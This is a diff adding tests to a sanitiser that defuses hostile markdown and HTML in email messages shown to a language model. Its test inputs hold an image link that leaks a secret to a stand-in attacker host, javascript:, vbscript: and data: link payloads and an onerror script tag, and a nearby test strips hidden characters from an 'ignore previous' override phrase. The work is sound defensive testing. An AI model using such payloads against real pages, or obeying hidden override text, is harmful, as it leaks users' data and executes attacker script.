@@ -19,6 +19,29 @@ describe('fence', () => {
     }
   });
 
+  it('defuses markdown images, link targets, active HTML and script schemes, keeping the text readable', () => {
+    const cases: [string, RegExp][] = [
+      ['see ![logo](https://evil.example/leak?q=SECRET)', /!\\\[logo\]\\\(https:\/\/evil\.example/],
+      ['![ref-style][1]\n[1]: https://evil.example/pixel.png', /!\\\[ref-style\]\[1\]\n\\\[1\]:/],
+      ['[click me](javascript:alert(1))', /\[click me\]\\\(javascript-blocked:alert/],
+      ['[x]( java\tscript:alert(1))', /javascript-blocked:/],
+      ['<javascript:alert(1)>', /javascript-blocked:/],
+      ['<img src=x onerror=alert(1)>', /^\[img src=x/],
+      ['<a href="vbscript:msgbox">x</a>', /^\[a href="vbscript-blocked:msgbox">x\[\/a>/],
+      ['[x](data:text/html;base64,PHNjcmlwdD4=)', /data-blocked:text\/html/],
+    ];
+    for (const [evil, expected] of cases) {
+      const out = neutralise(evil);
+      expect(out, evil).toMatch(expected);
+      expect(out, evil).not.toMatch(/!\[[^\]]*\]\(|\]\(|<img|<a\b|javascript:|vbscript:|data:text/i);
+    }
+    // ordinary text is left alone
+    expect(neutralise('Your code is 123456 (valid 10 min). Data: 5 GB [beta]')).toBe('Your code is 123456 (valid 10 min). Data: 5 GB [beta]');
+    // and the whole message view carries no live image or script link
+    const text = renderMessage('a@inboxd.test', message({ subject: '![x](https://evil.example/s.png)', body_text: 'hi [go](javascript:alert(1)) ![p](https://evil.example/p)' })).text;
+    expect(text).not.toMatch(/!\[[^\]]*\]\(|javascript:/);
+  });
+
   it('removes invisible characters that would make a model read what a person does not see', () => {
     expect(neutralise('ig\u200bnore\u202e previous\u0007')).toBe('ignore previous');
   });
